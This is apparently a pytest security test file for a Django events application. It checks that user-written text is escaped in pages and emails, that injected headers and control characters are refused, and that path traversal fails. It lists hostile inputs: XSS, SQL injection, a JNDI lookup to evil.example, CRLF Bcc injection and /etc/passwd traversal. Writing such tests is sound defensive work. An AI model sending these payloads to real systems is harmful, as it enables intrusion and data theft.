"""Whatever people write stays what they wrote: on every page, in every table, in every letter, in every search."""

import html
import json
from urllib.parse import quote

import pytest
from django.core import mail

from tests.cast import event_body, settle
from tests.security import matrix, routes
from tests.security.scene import scene

pytestmark = pytest.mark.django_db
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'--></style></script><svg onload=alert(1)>",
    "{{ 917|add:1834 }}{% load nothing %}",
    "'; DROP TABLE users_user; --",
    "${jndi:ldap://evil.example/x}",
    "%0d%0aSet-Cookie: evil=1",
    "../../../../etc/passwd",
    "javascript:alert(1)",
]
TEXTS = [" ".join(HOSTILE[n : n + 3]) for n in (0, 3, 6)]  # short enough for any line
TORN = [
    "a\r\nBcc: eve@evil.example",
    "a\nb",
    "a\0b",
    "a\u2028b",
    "a\u202eb",
    "a\u2066b",
    "a\x1bb",
    "a\ud800b",
]
EVALUATED = "2751"
LINES = {  # each single line that somebody can write
    "title": ("organiser", "POST", "/events", lambda text: event_body(title=text)),
    "location": ("organiser", "POST", "/events", lambda text: event_body(location=text)),
    "category": ("organiser", "POST", "/events", lambda text: event_body(category=text)),
    "ticket type": ("organiser", "POST", "/events", lambda text: event_body(
        capacity=None, price=None, currency=None,
        ticketTypes=[{"name": text, "price": 1, "currency": "EUR", "capacity": 1}])),
    "name": ("stranger", "PUT", "/profile", lambda text: {"profileInfo": {"displayName": text}}),
    "phone": ("stranger", "PUT", "/profile", lambda text: {"profileInfo": {"phone": text}}),
    "username": ("stranger", "PUT", "/profile", lambda text: {"username": text}),
    "address": ("stranger", "PUT", "/profile", lambda text: {"email": f"{text}@example.org"}),
    "subject": ("organiser", "POST", "/notifications", lambda text: {
        "eventId": "{eventId}", "message": "m", "subject": text}),
}  # fmt: skip


def as_written(one, text):
    """Everything that people can write says this, by those who may write it."""
    ada, ben, dee = one.cast["organiser"], one.cast["attendee"], one.cast["other"]
    for event_id in (one.ids["eventId"], one.ids["draftId"]):
        body = {"title": text, "description": text, "location": text, "category": text[:60]}
        assert ada.put(f"/events/{event_id}", body)[0] == 200
    for person in (ben, dee, ada):
        assert person.put("/profile", {"profileInfo": {"displayName": text}})[0] == 200
    over = one.ids["overId"]
    assert ben.post("/reviews", {"eventId": over, "rating": 3, "comment": text})[0] == 201
    assert ada.post(f"/reviews/{one.ids['reviewId']}/answer", {"comment": text})[0] == 200
    message = {"eventId": one.ids["eventId"], "subject": text, "message": text}
    assert ada.post("/notifications", message)[0] == 202
    refund = {"paymentId": one.ids["paymentId"], "amount": 1, "reason": text}
    assert ada.post("/refunds", refund)[0] == 201
    settle()


@pytest.mark.parametrize("text", TEXTS)
def test_on_no_page_is_it_more_than_text(text):
    one = scene()
    as_written(one, text)
    seen = 0
    for call in matrix.rows():
        path = call.partition(" ")[2]
        if not call.startswith("GET ") or not routes.is_page(routes.filled(path, one.ids)):
            continue
        for role in ("nobody", "attendee", "organiser"):
            answer = one.ask(role, call)
            page = answer.content.decode()
            assert answer.status_code < 500, (call, role)
            assert EVALUATED not in page, (call, role)
            assert "Set-Cookie" not in answer.headers, (call, role)
            if "<" in text and answer.get("Content-Type", "").startswith("text/html"):
                assert text not in page, (call, role)
            seen += html.escape(text) in page
    assert seen > 10, "it stands nowhere: then this looks at nothing"


@pytest.mark.parametrize("text", TEXTS)
def test_in_letters_it_is_text_too_and_breaks_no_header(text):
    one = scene()
    mail.outbox.clear()
    as_written(one, text)
    assert [letter for letter in mail.outbox if text in letter.body], "no letter says it"
    for letter in mail.outbox:
        told = letter.message()
        assert (told["Bcc"], told["Cc"]) == (None, None)
        assert len(letter.subject.splitlines()) == 1
        for content, kind in letter.alternatives:
            assert EVALUATED not in content
            assert "<" not in text or kind != "text/html" or text not in content


@pytest.mark.parametrize("field", LINES)
def test_a_line_with_a_break_or_a_turn_in_it_is_refused(field):
    one = scene()
    role, method, path, body = LINES[field]
    for text in TORN:
        sent = json.loads(json.dumps(body(text)).replace("{eventId}", one.ids["eventId"]))
        answer = one._api(role, method, path, sent)
        assert answer.status_code in {400, 422}, (field, text)


@pytest.mark.parametrize("text", [*HOSTILE, "\\", "%", "_", "'", "& | !", "a\0b", "\ud83d"])
def test_any_words_can_be_looked_for(text):
    one = scene()
    asked = quote(text.encode("utf-8", "surrogatepass"))
    for call in (f"GET /events?q={asked}", f"GET /events?location={asked}", f"GET /?q={asked}",
                 f"GET /bookings/events/{{eventId}}?q={asked}", f"GET /organize/{{eventId}}/people?q={asked}"):  # fmt: skip
        assert one.ask("organiser", call.replace("{{", "{")).status_code < 500, call


@pytest.mark.parametrize("path", [
    "/static/../settings.py", "/static/%2e%2e/settings.py", "/static/..%2fsettings.py", "/static/web/../../settings.py",
    "/events/../profile", "/events/%2e%2e%2fprofile", "/openapi/..%2f..%2fsecrets.json", "/openapi/users%00.json",
    "/docs/..%2fadmin", "/events/{eventId}/cover/..%2f..%2fetc-small.jpg", "/sandbox/..%2f..%2fetc%2fpasswd",
    "/e/{eventId}/..%2f..%2f", "/admin/..%2f..%2f",
])  # fmt: skip
def test_a_path_leads_nowhere_but_where_it_says(path):
    one = scene()
    answer = one.ask("organiser", f"GET {path}")
    assert answer.status_code in {301, 302, 400, 404}
    assert b"SECRET_KEY" not in answer.content
    assert b"root:" not in answer.content
